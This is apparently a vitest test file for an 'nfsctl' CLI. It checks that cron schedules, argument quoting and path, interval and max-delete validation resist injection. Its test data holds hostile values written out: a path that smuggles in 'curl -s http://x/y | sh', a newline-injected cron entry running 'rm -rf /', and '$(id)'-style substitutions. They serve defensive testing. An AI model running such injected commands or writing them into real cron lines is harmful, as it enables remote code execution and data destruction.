import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { cronCommand, cronQuoteArg, cronSchedule, parseCronInterval } from '../../../src/core/cron.js';
import { checkPlainPath } from '../../../src/core/plain-path.js';
import { cronLine, runInstallTimer, runSync } from '../../../src/commands/sync/sync.run.js';
import { testConfig } from '../../support/config.js';
import { fakeContext } from '../../support/fake-context.js';

/**
 * What cron (cronie / Vixie cron, do_command.c) makes of a command field: an unescaped `%`
 * ends the command (the rest, with `%` as newlines, is stdin); `\%` becomes `%`; any other
 * backslash pair is kept as it is.
 */
function cronRead(field: string): { command: string; stdin: string | null } {
  let out = '';
  let escaped = false;
  for (let i = 0; i < field.length; i++) {
    const ch = field[i]!;
    if (escaped) {
      if (ch === '%') out = out.slice(0, -1) + '%';
      else out += ch;
      escaped = false;
      continue;
    }
    if (ch === '\\') escaped = true;
    if (ch === '%') return { command: out, stdin: field.slice(i + 1).replace(/%/g, '\n') };
    out += ch;
  }
  return { command: out, stdin: null };
}

/** Run a cron command field the way cron does: its own reading, then /bin/sh -c. */
function argvAfterCronAndSh(field: string): string[] {
  const { command, stdin } = cronRead(field);
  expect(stdin).toBeNull();
  const r = spawnSync('/bin/sh', ['-c', command], { encoding: 'utf8' });
  expect(r.status, r.stderr).toBe(0);
  return JSON.parse(r.stdout) as string[];
}

const PRINT_ARGV = [process.execPath, '-e', 'process.stdout.write(JSON.stringify(process.argv.slice(1)))', '--'];

const HOSTILE = [
  '/usr/local/sbin/nfsctl; curl -s http://x/y | sh #',
  '$(id)',
  '`id`',
  "it's",
  "'",
  '%',
  '100%',
  '%%s',
  'a%b%c',
  'a b',
  '  ',
  '',
  '*',
  '~root',
  '-e',
  '>/tmp/x',
  '"quoted"',
  '${HOME}',
  'tab\there',
  'ünïcödé',
  '#comment',
  '&&',
  '|',
];

describe('cron: the interval', () => {
  it('accepts exactly what cron can run: minutes dividing 60, hours dividing 24', () => {
    const cases: [string, string][] = [
      ['1m', '* * * * *'],
      ['5m', '*/5 * * * *'],
      ['15m', '*/15 * * * *'],
      ['30m', '*/30 * * * *'],
      ['60m', '0 * * * *'],
      ['1h', '0 * * * *'],
      ['2h', '0 */2 * * *'],
      ['12h', '0 */12 * * *'],
      ['24h', '0 0 * * *'],
      ['120s', '*/2 * * * *'],
      ['1440m', '0 0 * * *'],
      ['1d', '0 0 * * *'], // the config's duration grammar: rsync.interval: 1d is the same value
    ];
    for (const [text, want] of cases) expect(cronSchedule(parseCronInterval(text)), text).toBe(want);
  });
  it('refuses what cron would run at another rate, and malformed numbers, saying which intervals work', () => {
    for (const text of ['30s', '90s', '7m', '45m', '90m', '25h', '5h', '48h', '2880m']) {
      expect(() => cronSchedule(parseCronInterval(text)), text).toThrow(
        /cron .*divides 60 \(1, 2, 3, 4, 5, 6, 10, 12, 15, 20, 30m\).*divides 24/,
      );
    }
    for (const text of [
      '0m',
      '0h',
      '0s',
      '-5m',
      '1.5h',
      '1e3m',
      '0x10m',
      '015m',
      ' 15m',
      '15m ',
      '15 m',
      '15',
      'm',
      '',
      '15min',
      '１５m',
    ]) {
      expect(() => parseCronInterval(text), JSON.stringify(text)).toThrow(/whole number of minutes or hours/);
    }
    expect(() => cronSchedule(0)).toThrow(/not a positive interval/);
    expect(() => cronSchedule(30_000)).toThrow(/whole number of minutes/);
  });
});

describe('cron: the command field', () => {
  it('hostile arguments reach the program exactly, through cron and then the real /bin/sh', () => {
    const field = cronCommand([...PRINT_ARGV, ...HOSTILE]);
    expect(argvAfterCronAndSh(field)).toEqual(HOSTILE);
    // No unescaped % survives: cron would cut the command there.
    expect(cronRead(field).stdin).toBeNull();
  });
  it('each hostile word on its own', () => {
    for (const w of HOSTILE) expect(argvAfterCronAndSh(cronCommand([...PRINT_ARGV, w])), w).toEqual([w]);
  });
  it('refuses what a cron line cannot carry: newline, CR, NUL, backslash', () => {
    for (const w of ['a\nb', 'a\rb', 'a\0b', 'a\\%', '\\'])
      expect(() => cronQuoteArg(w), JSON.stringify(w)).toThrow(/cannot be written into a cron line/);
  });
});

describe('sync install-timer: --nfsctl-path and --interval are checked before any host is contacted', () => {
  const config = testConfig();
  it('the cron line for a normal path', () => {
    const line = cronLine(15 * 60_000, '/usr/local/sbin/nfsctl');
    expect(line).toBe('*/15 * * * * root /usr/local/sbin/nfsctl sync --yes --json >> /var/log/nfsctl/sync.log 2>&1');
  });
  const badPaths = [
    '/usr/local/sbin/nfsctl; curl -s http://x/y | sh #',
    '/usr/local/sbin/nfsctl\n* * * * * root rm -rf /',
    '/usr/local/sbin/nfs%ctl',
    'nfsctl',
    './nfsctl',
    '/usr/local/../sbin/nfsctl',
    '/usr/local/sbin/-nfsctl',
    '/opt/my nfsctl',
    '/opt/$(id)',
    '/opt/`id`',
    "/opt/it's",
    '',
    '/opt//nfsctl',
  ];
  for (const p of badPaths) {
    it(`refuses --nfsctl-path ${JSON.stringify(p)} (exit 2, nothing ran)`, async () => {
      const f = fakeContext(config);
      const err = await runInstallTimer(f.ctx, { nfsctlPath: p, interval: '15m', yes: true }).catch((e: unknown) => e);
      expect(err).toMatchObject({ exitCode: 2, message: expect.stringMatching(/--nfsctl-path/) });
      expect(f.untouched()).toBe(true);
    });
  }
  for (const i of ['30s', '0m', '90m', '25h', '1e3m', '15']) {
    it(`refuses --interval ${i} (exit 2, nothing ran)`, async () => {
      const f = fakeContext(config);
      const err = await runInstallTimer(f.ctx, { interval: i, yes: true }).catch((e: unknown) => e);
      expect(err).toMatchObject({ exitCode: 2, message: expect.stringMatching(/--interval/) });
      expect(f.untouched()).toBe(true);
    });
  }
  it('a dry run with good values reads the cron file and writes nothing', async () => {
    const f = fakeContext(config, { dryRun: true });
    await runInstallTimer(f.ctx, { interval: '20m', dryRun: true, nfsctlPath: '/opt/nfsctl-1.2/bin/nfsctl' });
    expect(f.stderr.text).toContain('+ */20 * * * * root /opt/nfsctl-1.2/bin/nfsctl sync --yes --json');
    expect(f.backup.writes).toEqual([]);
  });
  it('plain paths: the rule', () => {
    expect(checkPlainPath('/usr/local/sbin/nfsctl', 'x')).toBe('/usr/local/sbin/nfsctl');
    expect(checkPlainPath('/opt/nfsctl_2+x/bin/nfsctl.js', 'x')).toBe('/opt/nfsctl_2+x/bin/nfsctl.js');
  });
});

describe('sync --max-delete: digits only, before any host is contacted', () => {
  for (const bad of ['1e3', '0x10', '', ' 5', '5 ', '-1', '1.5', '010', 'Infinity', '1_000']) {
    it(`refuses ${JSON.stringify(bad)}`, async () => {
      const f = fakeContext(testConfig());
      const err = await runSync(f.ctx, { maxDelete: bad, yes: true }).catch((e: unknown) => e);
      expect(err).toMatchObject({ exitCode: 2, message: expect.stringMatching(/--max-delete/) });
      expect(f.untouched()).toBe(true);
    });
  }
});
